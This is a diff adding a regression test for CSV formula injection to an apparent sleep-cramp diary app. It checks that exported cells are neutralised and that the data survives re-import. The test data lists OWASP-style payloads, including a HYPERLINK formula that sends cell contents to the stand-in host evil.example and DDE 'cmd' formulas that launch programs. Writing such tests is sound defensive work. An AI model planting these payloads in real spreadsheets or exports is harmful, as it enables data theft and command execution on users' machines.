@@ -106,3 +106,47 @@ def test_replace_keeps_the_profile(memory_store: SqlDiaryStore) -> None:
     profile = memory_store.get_profile()
     assert profile is not None
     assert profile.age == 61
+
+
+# Formula payloads of the OWASP "CSV injection" page and the issue's attack run.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "'=1+1",
+    "'",
+    "''",
+    "=",
+    "DDE ok =1+1",
+    "a-b",
+]
+
+
+def test_formula_cells_are_neutralised_and_restored(
+    memory_store: SqlDiaryStore, make_night: Callable[..., NightIn]
+) -> None:
+    import csv
+    import io
+
+    from nightlegs.diary import EpisodeIn
+
+    for day, text in enumerate(FORMULAS, start=1):
+        episode = EpisodeIn(side="left", body_site=text, kind="cramp", intensity=3, helped=text)
+        memory_store.create_night(make_night(day, notes=text, episodes=[episode]))
+    exported = export_csv(memory_store)
+    rows = list(csv.DictReader(io.StringIO(exported)))
+    assert len(rows) == len(FORMULAS)
+    for row in rows:
+        for column in ("notes", "body_site", "helped"):
+            assert not row[column].startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), row
+    with open_store("sqlite://") as again:
+        assert import_csv(again, exported) == len(FORMULAS)
+        assert again.export_diary() == memory_store.export_diary()
+        assert export_csv(again) == exported
